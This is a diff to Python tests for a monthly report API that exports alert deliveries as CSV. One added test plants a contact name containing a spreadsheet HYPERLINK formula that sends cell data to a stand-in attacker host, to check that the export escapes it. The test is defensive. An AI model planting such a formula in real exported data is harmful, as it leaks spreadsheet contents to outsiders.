@@ -322,7 +322,8 @@ def test_the_monthly_report_per_district(
         seeded.alerts["battery"],
     }
     sms = [d for d in deliveries if d["channel"] == "sms"]
-    assert sms and {d["destination"] for d in sms} == {"+141****0101"}
+    # operators keep the contacts and stand in as duty supervisors: numbers whole
+    assert sms and {d["destination"] for d in sms} == {WORKER_PHONE}
 
     admin = get(client, auth(world.usernames["admin"]), "/reports/monthly", month=month)
     assert {d["district_name"] for d in admin["districts"]} == {"东胜区", "康巴什区"}
@@ -369,7 +370,9 @@ def test_the_monthly_report_as_csv(
     delivery = sections["deliveries"][0]
     assert delivery["month"] == month
     datetime.strptime(delivery["created_at"], "%Y-%m-%d %H:%M:%S")  # local wall-clock time
-    assert all(WORKER_PHONE not in r["destination"] for r in sections["deliveries"])
+    assert {r["destination"] for r in sections["deliveries"] if r["channel"] == "sms"} == {
+        "tel:+1-415-555-0101"  # WORKER_PHONE, readable and inert
+    }
 
 
 def test_the_monthly_report_refuses_bad_months_and_other_roles(
@@ -397,3 +400,28 @@ def test_a_report_month_before_2000_is_refused(
     admin = auth(world.usernames["admin"])
     for month in ("0000-01", "1999-12", "2026-13"):
         assert refused(client, admin, "/reports/monthly", month=month) == ["month"]
+
+
+def test_the_csv_report_cannot_run_a_contacts_formula(
+    client: TestClient, auth: Auth, world: World, seeded: Seeded, pool: ConnectionPool
+) -> None:
+    """A contact's name is typed by people: one named like a formula reaches the bureau's
+    spreadsheet as text, and the numbers dialled stay readable."""
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
+    with pool.connection() as conn:
+        conn.execute("UPDATE contacts SET name = %s WHERE phone = %s", (attack, WORKER_PHONE))
+    try:
+        month = seeded.now.astimezone(SHANGHAI).strftime("%Y-%m")
+        response = client.get(
+            "/api/v1/reports/monthly",
+            headers=auth(world.usernames["admin"]),
+            params={"month": month, "format": "csv"},
+        )
+    finally:
+        with pool.connection() as conn:
+            conn.execute("UPDATE contacts SET name = '刘网格员' WHERE phone = %s", (WORKER_PHONE,))
+    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + attack in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "tel:+1-415-555-0101" in cells  # WORKER_PHONE, as the admin sees it
